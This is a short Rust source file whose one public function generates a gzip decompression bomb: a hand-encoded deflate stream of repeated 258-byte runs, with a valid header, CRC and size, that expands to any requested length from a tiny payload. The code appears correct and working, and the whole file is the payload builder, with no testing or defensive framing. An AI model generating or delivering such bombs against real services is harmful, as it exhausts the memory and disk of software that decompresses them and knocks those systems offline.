//! A gzip bomb, written by hand: one deflate block with the fixed code, in which a single space repeats itself in runs of
//! 258, thirteen bits each. Six thousandths of its size go over the wire.

/// Gzip data that unpacks to `length` spaces (rounded up to a whole run).
pub fn bomb(length: u64) -> Vec<u8> {
    let runs = length.saturating_sub(1).div_ceil(258);
    let mut bits = Bits::default();
    bits.push(0b1, 1); // the last block …
    bits.push(0b01, 2); // … with the fixed code
    bits.push_code(0x30 + u32::from(b' '), 8);
    for _ in 0..runs {
        bits.push_code(0b1100_0101, 8); // a run of 258 …
        bits.push_code(0, 5); // … from one byte back
    }
    bits.push_code(0, 7); // the end of the block

    let size = 1 + runs * 258;
    let mut gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    gzip.extend(bits.finish());
    gzip.extend(crc_of_spaces(size).to_le_bytes());
    gzip.extend(u32::try_from(size & 0xffff_ffff).unwrap().to_le_bytes());
    gzip
}

/// CRC-32 of so many spaces.
fn crc_of_spaces(count: u64) -> u32 {
    let table: Vec<u32> = (0..256)
        .map(|byte| (0..8).fold(byte, |crc: u32, _| if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 }))
        .collect();
    !(0..count).fold(!0, |crc: u32, _| (crc >> 8) ^ table[((crc ^ u32::from(b' ')) & 0xff) as usize])
}

/// Bits in deflate's order: from the low end of each byte upwards.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    held: u32,
    count: u32,
}

impl Bits {
    fn push(&mut self, value: u32, width: u32) {
        self.held |= value << self.count;
        self.count += width;
        while self.count >= 8 {
            self.bytes.push(self.held.to_le_bytes()[0]);
            self.held >>= 8;
            self.count -= 8;
        }
    }

    /// Huffman codes go in with their highest bit first.
    fn push_code(&mut self, code: u32, width: u32) {
        self.push(code.reverse_bits() >> (32 - width), width);
    }

    fn finish(mut self) -> Vec<u8> {
        self.push(0, (8 - self.count) % 8);
        self.bytes
    }
}
